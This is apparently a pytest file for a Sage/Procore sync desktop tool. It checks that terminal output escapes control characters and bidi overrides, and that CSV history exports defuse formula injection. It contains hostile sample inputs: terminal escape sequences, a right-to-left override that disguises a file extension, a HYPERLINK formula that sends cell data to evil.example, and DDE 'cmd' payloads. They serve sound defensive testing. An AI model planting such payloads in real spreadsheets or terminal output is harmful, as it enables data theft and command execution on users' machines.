"""Text from Sage and Procore is data: escaped in the terminal, never a formula in a CSV export."""

from __future__ import annotations

import csv


from sage_sync_desktop.cli import main
from sage_sync_desktop.demo.demo_setup import DemoEnvironment, read_sample
from sage_sync_desktop.sync.history import HistoryStore, NewEntry
from sage_sync_desktop.demo.sample_editor import SampleEditor

# An escape sequence that retitles the terminal and clears the screen, a carriage return that
# overwrites the line, and a right-to-left override that makes "exe.txt" read "txt.exe".
HOSTILE = "Site\x1b]0;pwned\x07\x1b[2J work\rFAKE \u202etxt.exe\u2066"


def _run(demo: DemoEnvironment, capsys, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["--app-dir", str(demo.paths.config_dir.parent), "--config", str(demo.settings_path), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _raw_controls(text: str) -> set[str]:
    return {ch for ch in text if (ord(ch) < 32 and ch != "\n") or 0x7f <= ord(ch) <= 0x9f
            or ch in "\u202e\u2066\u200f"}


def test_control_characters_and_bidi_marks_from_sage_are_escaped_in_the_diff(demo, capsys) -> None:
    contract = demo.roles["changes_ready"]
    item = read_sample(demo.sample.path, demo.sample.naming).contract(contract).items[0].number
    SampleEditor(demo.sample.path, demo.sample.naming).change_item(contract, item, description=HOSTILE[:39])
    code, out, _err = _run(demo, capsys, "diff", contract)
    assert code == 0
    assert _raw_controls(out) == set()
    assert "Site\\x1b]0;pwned\\x07\\x1b[2J work\\x0dFAKE \\u202etxt.exe" in out


def test_control_characters_in_history_messages_are_escaped_in_the_history_listing(demo, capsys) -> None:
    HistoryStore(demo.paths.history_db).append(NewEntry("import", "failed", "failed", contract="X1",
                                                        message=HOSTILE))
    code, out, _err = _run(demo, capsys, "history")
    assert code == 0
    assert _raw_controls(out) == set()
    assert "\\u202etxt.exe\\u2066" in out


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_history_csv_export_turns_every_formula_cell_into_text_and_keeps_amounts_numeric(demo, capsys,
                                                                                             tmp_path) -> None:
    history = HistoryStore(demo.paths.history_db)
    for text in FORMULAS:
        history.append(NewEntry("import", "failed", "failed", contract=text, job=text, message=text,
                                procore_error=text, data={"retry_wait_seconds": "-2500.00"}))
    target = tmp_path / "history.csv"
    code, out, _err = _run(demo, capsys, "history", "--csv", str(target))
    assert code == 0
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    hostile_rows = [r for r in rows if r["message"].lstrip("'") in FORMULAS]
    assert len(hostile_rows) == len(FORMULAS)
    for row in hostile_rows:
        for column in ("contract", "job", "message", "procore_error"):
            assert row[column].startswith("'") and row[column][1:] in FORMULAS, (column, row[column])
        # A negative amount is a number, not a formula: it stays one for the spreadsheet.
        assert row["retry_wait_seconds"] == "-2500.00"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.replace(".", "", 1).lstrip("-").isdigit(), value
